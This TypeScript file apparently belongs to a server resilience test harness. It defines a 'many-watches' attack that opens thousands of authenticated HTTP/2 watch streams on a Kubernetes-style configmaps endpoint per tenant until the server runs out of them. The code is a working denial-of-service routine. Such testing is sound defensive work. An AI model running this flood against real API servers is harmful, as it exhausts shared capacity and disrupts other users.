/** One tenant with two accounts opens watches until the server has no more of them. */
import { connect } from "node:http2";
import type { ClientHttp2Session } from "node:http2";
import { setTimeout as sleep } from "node:timers/promises";
import type { Account, Attack, AttackTarget } from "../attack.ts";

const streamsPerSession = 240;
const sessionsPerAccount = 22;
const againMs = 500;

export const attacks: readonly Attack[] = [
  {
    name: "many-watches",
    run: async (target, signal) => {
      const sessions = target.accounts.flatMap((account) =>
        Array.from({ length: sessionsPerAccount }, () => openWatches(target, account)),
      );
      while (!signal.aborted) await sleep(againMs);
      for (const session of sessions) session.destroy();
    },
  },
];

/** A watch that was refused is not opened again. */
function openWatches(target: AttackTarget, { token }: Account): ClientHttp2Session {
  const session = connect(`https://${target.host}:${target.port}`, { ca: target.ca });
  session.setMaxListeners(0);
  session.on("error", () => undefined);
  session.once("connect", () => {
    for (let at = 0; at < streamsPerSession; at++) {
      const stream = session.request({
        ":path": `/api/v1/namespaces/${target.namespace}/configmaps?watch=1&resourceVersion=0`,
        authorization: `Bearer ${token}`,
      });
      stream.on("error", () => undefined);
      stream.resume();
    }
  });
  return session;
}
